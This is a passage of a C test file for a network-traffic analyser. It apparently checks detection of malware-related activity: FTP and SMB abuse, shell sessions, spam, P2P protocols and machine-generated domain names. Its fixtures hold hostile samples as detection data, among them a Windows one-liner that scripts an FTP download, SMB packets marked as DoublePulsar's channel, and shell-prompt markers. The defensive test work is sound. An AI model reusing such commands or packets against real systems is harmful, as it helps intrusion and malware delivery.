	CHECK_EQ_U(rp_dns_name_words("heavenseveralmiddle.local", &len), 0);
}

static void test_ftp_smb_shell(void)
{
	TEST("ftp");
	struct rp_flow f = flow(6, 1600, 8884);
	CHECK(feed(&proto_ftp, &f, "USER 1\r\n", 8, 0));
	CHECK(feed(&proto_ftp, &f, "RETR ssms.exe\r\n", 15, 0));
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts & RPF_FTP_LOGIN);
	f = flow(6, 1601, 8884);
	CHECK(!feed(&proto_ftp, &f, "QUIT\r\n", 6, 0));
	TEST("smb");
	/* Trans2: WordCount 15, 13 words, SetupCount 1, Reserved, Setup[0] = subcommand, ByteCount */
	uint8_t smb[4 + 32 + 1 + 30 + 2] = { 0, 0, 0, 65, 0xFF, 'S', 'M', 'B', 0x32 };
	smb[36] = 15;
	smb[63] = 1;
	smb[65] = 0x0e;                       /* SESSION_SETUP: DoublePulsar's channel */
	f = flow(6, 1700, 445);
	CHECK(feed(&proto_smb, &f, smb, sizeof smb, 0));
	CHECK(f.facts & RPF_SMB_TRANS2);
	smb[65] = 0x01;                       /* FIND_FIRST2: a directory listing */
	f = flow(6, 1704, 445);
	CHECK(feed(&proto_smb, &f, smb, sizeof smb, 0));
	CHECK(!(f.facts & RPF_SMB_TRANS2));
	smb[65] = 0x0e;
	uint8_t nt[4 + 32 + 12] = { 0, 0, 0, 44, 0xFF, 'S', 'M', 'B', 0xA0 };
	nt[4 + 32] = 19;                      /* word count */
	nt[4 + 32 + 4 + 2] = 0x01;            /* total parameter count 0x10000 */
	f = flow(6, 1701, 445);
	CHECK(feed(&proto_smb, &f, nt, sizeof nt, 0));
	CHECK(f.facts & RPF_SMB_NTTRANS);
	f = flow(6, 1702, 445);
	CHECK(!feed(&proto_smb, &f, smb, 6, 0));
	f = flow(6, 1703, 80);
	CHECK(!feed(&proto_smb, &f, smb, sizeof smb, 0));
	TEST("logins refused: FTP 530, SMTP 535, SMB logon failure");
	f = flow(6, 1704, 21);
	CHECK(feed_str(&proto_ftp, &f, "220 ready\r\n", 1));
	CHECK(feed_str(&proto_ftp, &f, "331 Password required\r\n530 Login incorrect.\r\n", 1));
	CHECK(feed_str(&proto_ftp, &f, "530-Login incorrect.\r\n530 bye\r\n", 1));
	CHECK((f.facts2 & RPF2_AUTH_FAIL) && f.auth_fail == 3);
	f = flow(6, 1705, 587);
	CHECK(feed_str(&proto_smtp, &f, "220 mail ESMTP\r\n", 1));
	CHECK(feed_str(&proto_smtp, &f, "535 5.7.8 Authentication credentials invalid\r\n", 1));
	CHECK(f.auth_fail == 1);
	uint8_t ss[4 + 32 + 4] = { 0, 0, 0, 36, 0xFF, 'S', 'M', 'B', 0x73, 0x6D, 0x00, 0x00, 0xC0 };
	f = flow(6, 1706, 445);
	f.app = RP_APP_SMB;
	CHECK(feed(&proto_smb, &f, ss, sizeof ss, 1));
	ss[9] = 0x16;                         /* STATUS_MORE_PROCESSING_REQUIRED: the NTLM challenge */
	CHECK(feed(&proto_smb, &f, ss, sizeof ss, 1));
	uint8_t s2[4 + 64] = { 0, 0, 0, 64, 0xFE, 'S', 'M', 'B', 64, 0, 0, 0, 0x6D, 0x00, 0x00, 0xC0, 1, 0 };
	CHECK(feed(&proto_smb, &f, s2, sizeof s2, 1));
	CHECK(f.auth_fail == 2);
	TEST("shell");
	const char *sh = "echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &ftp -n -s:o\r\n";
	f = flow(6, 1800, 1957);
	CHECK(feed(&proto_shell, &f, sh, strlen(sh), 0));
	CHECK(f.facts & RPF_SHELL);
	f = flow(6, 1800, 80);
	CHECK(!feed(&proto_shell, &f, sh, strlen(sh), 0));
	/* words found anywhere in the first 1,024 bytes, in binary too, up to the last byte; not past it */
	uint8_t bin[1200];
	for (size_t i = 0; i < sizeof bin; i++)
		bin[i] = (uint8_t)(i * 2654435761u >> 13 | 0x80);   /* high bytes: no word, no space */
	bin[100] = ' ';
	memcpy(bin + 1024 - 6, "uid=0(", 6);                   /* ends on the last byte read */
	f = flow(6, 1801, 4444);
	CHECK(feed(&proto_shell, &f, bin, sizeof bin, 1));
	CHECK((f.facts & RPF_SHELL) && rp_shell_side(&f) == 1);  /* output from the responder: its shell */
	memcpy(bin + 1024 - 6, "xuid=0", 6);
	memcpy(bin + 1024 - 3, "cmd /c", 6);                   /* straddles the cut: not read */
	f = flow(6, 1801, 4444);
	CHECK(!feed(&proto_shell, &f, bin, sizeof bin, 1));
	memcpy(bin + 3, "whoami", 6);
	memcpy(bin + 200, "C:\\>", 4);
	f = flow(6, 1801, 4444);
	CHECK(feed(&proto_shell, &f, bin, sizeof bin, 0));
	CHECK(f.count == (1 | 4));                             /* output and a command, both from the originator */
}

static void test_p2p(void)
{
	TEST("overnet");
	static const uint8_t ack[] = { 0xE3, 0x0D };   /* PublicizeAck: empty */
	struct rp_flow f = flow(17, 20000, 30000);
	CHECK(feed(&proto_overnet, &f, ack, sizeof ack, 0));
	static const uint8_t bad[] = { 0xE3, 0xFF };
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, bad, sizeof bad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, ack, 1, 0));
	static const uint8_t conn[] = { 0xE3, 0x0A, 1, 2 };   /* Connect cut short */
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, conn, sizeof conn, 0));
	TEST("kad");
	static const uint8_t kad[] = { 0xE4, 0x21, 0, 0 };
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_kad, &f, kad, sizeof kad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_kad, &f, kad, 1, 0));
	TEST("bittorrent_dht");
	const char *d = "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe";
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_btdht, &f, d, strlen(d), 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_btdht, &f, d, 11, 0));
	TEST("gnutella");
	f = flow(6, 20000, 6346);
	CHECK(feed(&proto_gnutella, &f, "GNUTELLA CONNECT/0.6\r\n", 22, 0));
	f = flow(6, 20000, 6346);
	CHECK(!feed(&proto_gnutella, &f, "GNUT", 4, 0));
}

/* The verdict quotes long evidence cut at a clause, marked, never mid-word (verdict.c). */
static void test_verdict_cut(void)
{
	TEST("verdict_cut");
	static struct rp_host h;
	memset(&h, 0, sizeof h);
	h.family = 4;
	h.addr[0] = 10, h.addr[3] = 5;
	snprintf(h.role, sizeof h.role, "worker");
	struct rp_beh *b = rp_beh_add(&h, "scan", 1, 2, 1);
	CHECK(b != NULL && b->malicious);
	rp_evidence(b, "first clause of the evidence that is long enough to matter here, 123 words; "
		    "second clause of the evidence, which keeps going for a while longer still; "
		    "third clause that would be cut in the middle of a word by a plain byte limit");
	rp_verdict(&h);
	CHECK(strstr(h.verdict, "for a while longer still [...].") != NULL);
	CHECK(strstr(h.verdict, "third") == NULL);
	rp_evidence(b, "short evidence");
	rp_verdict(&h);
	CHECK(strstr(h.verdict, "- short evidence.") != NULL && strstr(h.verdict, "[...]") == NULL);
}

/* The report -> plot annotations rule (analysis/annots.c): malicious phases, three notable endpoints. */
static void test_annots(void)
{
	TEST("annots");
	static struct rp_host h;
	memset(&h, 0, sizeof h);
	const char *kinds[] = { "dns", "spam", "scan" };
	for (unsigned i = 0; i < 3; i++) {
		snprintf(h.behs[i].kind, sizeof h.behs[i].kind, "%s", kinds[i]);
		h.behs[i].start = 10.0 * (i + 1);
		h.behs[i].malicious = i > 0;
	}
	h.nbehs = 3;
	for (unsigned i = 0; i < 4; i++) {
		h.notable[i].family = 4;
		h.notable[i].addr[0] = 198, h.notable[i].addr[1] = 51, h.notable[i].addr[2] = 100;
		h.notable[i].addr[3] = (uint8_t)(i + 1);
		h.notable[i].first = 5.0 * i;
	}
	snprintf(h.notable[0].org, sizeof h.notable[0].org, "Example Org");
	h.nnotable = 4;
	struct plot_point pts[2] = { { 4.0f, 25, PLOT_TCP, 0, 1 }, { 9.0f, 6667, PLOT_TCP, 0, 1 } };
	h.pts = pts;
	h.npts = 2;
	struct plot_annots a = { 0 };
	CHECK(annots_report(&h, 300, false, annots_port_by_time, &h, &a) == 0);
	CHECK_EQ_U(a.n, 2 + 3);                       /* spam and scan; three of four endpoints */
	CHECK(a.v[0].kind == PLOT_ANNOT_TIME_BAND && !strcmp(a.v[0].label, "spam"));
	CHECK(a.v[0].t0 == 20 && a.v[0].t1 == 22);    /* a band of span / 150 */
	CHECK_STR(a.v[2].label, "198.51.100.1");
	CHECK_EQ_U(a.v[2].p0, 25);                    /* the first point at or after its first contact */
	CHECK_EQ_U(a.v[3].p0, 6667);
	CHECK_EQ_U(a.v[4].p0, 0);                     /* none after it: the axis */
	plot_annots_free(&a);
	CHECK(annots_report(&h, 300, true, annots_port_by_time, &h, &a) == 0);
	CHECK_STR(a.v[2].label, "198.51.100.1 · Example Org");
	CHECK_STR(a.v[3].label, "198.51.100.2");
	plot_annots_free(&a);
}

static void test_ranges(void)
{
	TEST("geo ranges");
	uint8_t a[16] = { 192, 168, 1, 1 };
	CHECK_STR(geo_range(4, a), "private (RFC 1918)");
	uint8_t b[16] = { 172, 31, 255, 1 };
	CHECK_STR(geo_range(4, b), "private (RFC 1918)");
	uint8_t c[16] = { 172, 32, 0, 1 };
	CHECK(geo_range(4, c) == NULL);
	uint8_t d[16] = { 0xfd, 0 };
	CHECK_STR(geo_range(6, d), "unique local (RFC 4193)");
	CHECK(rp_kind_malicious("spam"));
	CHECK(!rp_kind_malicious("dns"));
}

static void test_evidence_bound(void)
{
	TEST("evidence bound");
	char s[32];
	for (unsigned i = 0; i < RP_EV_MAX + 100; i++) {
		int n = snprintf(s, sizeof s, "name%u", i);
		rp_ev_add(col, 9, EV_DNS_QNAME, (const uint8_t *)s, (size_t)n);
	}
	CHECK(rp_ev_total(col, 9, EV_DNS_QNAME) <= RP_EV_MAX);
	CHECK(!rp_col_oom(col));
}

/* Copies of one text under one host kept apart by sender machine (rp_ev_entry.who) during the
 * pass are one entry again after the split, with their counts added. */
static void test_evidence_regroup(void)
{
	TEST("evidence regroup");
	struct rp_col *c = rp_col_new();
	rp_ev_add(c, 3, EV_HTTP_HOST, (const uint8_t *)"a.example", 9);
	for (size_t i = 0; i < RP_HASH; i++)
		for (struct rp_ev_entry *e = c->ev[i]; e; e = e->next)
			e->who = 1 | 2 << 2;   /* as if sent with the first MAC and TTL family 128 */
	rp_ev_add(c, 3, EV_HTTP_HOST, (const uint8_t *)"a.example", 9);
	rp_ev_add(c, 3, EV_HTTP_HOST, (const uint8_t *)"a.example", 9);
	CHECK(rp_ev_total(c, 3, EV_HTTP_HOST) == 2);
	CHECK(rp_ident_split(c, NULL, 0) == 0);
	CHECK(rp_ev_total(c, 3, EV_HTTP_HOST) == 1);
	CHECK(rp_ev_count(c, 3, EV_HTTP_HOST, "a.example") == 3);
	rp_col_free(c);
}

static void test_smtp_message(void)
{
	TEST("smtp: AUTH users (never passwords), the message's Subject and attachment names, commands after '.'");
	const char *a = "EHLO pc\r\nAUTH PLAIN AGFsaWNlAHNlY3JldA==\r\nMAIL FROM: <alice@example.net> \r\nRCPT TO:<r@example.com>\r\nDATA\r\n";
	const char *m = "Subject: invoice 42\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
			"Content-Type: application/zip; name=\"inv.zip\"\r\nContent-Disposition: attachment;\r\n"
			" filename= \"inv2.zip\"\r\n\r\nUEsDBA==\r\nSubject: not a header, a body line\r\n.\r\n";
	const char *b = "MAIL FROM:<second@example.net>\r\nAUTH LOGIN\r\nYm9i\r\n";
	struct rp_flow f = flow(6, 1300, 587);
	f.h[0] = 7;   /* its own client: evidence apart from the other tests' */
	CHECK(feed(&proto_smtp, &f, a, strlen(a), 0));
	CHECK(f.facts2 & RPF2_SMTP_INMSG);
	CHECK(feed(&proto_smtp, &f, m, strlen(m), 0));
	CHECK(!(f.facts2 & RPF2_SMTP_INMSG));
	CHECK(feed(&proto_smtp, &f, b, strlen(b), 0));
	CHECK(ev_has(7, EV_SMTP_AUTH, "alice"));
	CHECK(ev_has(7, EV_SMTP_AUTH, "bob"));
	CHECK(!ev_has(7, EV_SMTP_AUTH, "secret"));
	CHECK(ev_has(7, EV_SMTP_FROM, "<alice@example.net>"));
	CHECK(!ev_has(7, EV_SMTP_FROM, " <alice"));
	CHECK(ev_has(7, EV_SMTP_FROM, "<second@example.net>"));
	CHECK(ev_has(7, EV_SMTP_SUBJECT, "invoice 42"));
	CHECK(!ev_has(7, EV_SMTP_SUBJECT, "not a header"));
	CHECK(ev_has(7, EV_ATTACH, "inv.zip"));
	CHECK(ev_has(7, EV_ATTACH, "inv2.zip"));
	CHECK(ev_has(7, EV_SMTP_RCPT, "<r@example.com>"));
}

static void test_dga_names(void)
{
	TEST("dns: registered domains and machine-made labels");
	CHECK(!strcmp(rp_dns_regdom("a.b.example.com"), "example.com"));
	CHECK(!strcmp(rp_dns_regdom("www.bbc.co.uk"), "bbc.co.uk"));
	CHECK(!strcmp(rp_dns_regdom("www.smh.com.au"), "smh.com.au"));
	CHECK(!strcmp(rp_dns_regdom("co.uk"), "co.uk"));
	CHECK(!strcmp(rp_dns_regdom("example.co"), "example.co"));   /* a ccTLD's own second level */
	CHECK(!strcmp(rp_dns_regdom("localhost"), "localhost"));
	struct rp_label m;
	CHECK(rp_dns_name_random("xkqzvbtwplmr.com", &m));           /* no vowels */
	CHECK(m.len == 12 && m.entropy > 3);
	CHECK(rp_dns_name_random("a8f3kd92lq.net", &m));              /* letters and digits mixed */
	CHECK(rp_dns_name_random("www.qwrtzpkbxe.info", &m));
	CHECK(!rp_dns_name_random("d3k2j4h5g6f7a8.cloudfront.net", &m)); /* random label under a word */
	CHECK(!rp_dns_name_random("pagead2.googlesyndication.com", &m));
	CHECK(!rp_dns_name_random("www.wikipedia.org", &m));
	CHECK(!rp_dns_name_random("static.files.bbci.co.uk", &m));
	CHECK(!rp_dns_name_random("qwrtzpkbxe", &m));                 /* one label: a browser's probe */
	CHECK(!rp_dns_name_random("1.0.168.192.in-addr.arpa", &m));
	CHECK(!rp_dns_name_random("xkqzvbtwplmr.local", &m));
	CHECK(!rp_dns_name_random("xn--bcher-kva.de", &m));
	CHECK(!rp_dns_label_random("aaaaaaaaaaaa", 12, &m));          /* low entropy */
	CHECK(!rp_dns_label_random("bcdfg", 5, &m));                  /* too short to judge */
}

int main(void)
{
	col = rp_col_new();
	test_dns();
	test_icmp_tunnel();
	test_dns_data();
	test_arp_sweep();
	test_ntp();
	test_smtp();
	test_smtp_message();
	test_http();
	test_http_keepalive();
	test_http_chunked_gzip();
	test_http_log4shell();
	test_http_retransmit();
	test_http_sniff();
	test_http_download_rules();
	test_http_bigpost();
	test_tls();
	test_tls_ja3();
	test_tls_cert();
	test_tlsc2();
	test_irc();
	test_ftp_smb_shell();
	test_ssh();
	test_words();
	test_p2p();
	test_annots();
	test_ranges();
	test_verdict_cut();
	test_evidence_bound();
	test_evidence_regroup();
	test_dga_names();
	rp_col_free(col);
	return harness_report("report");
}
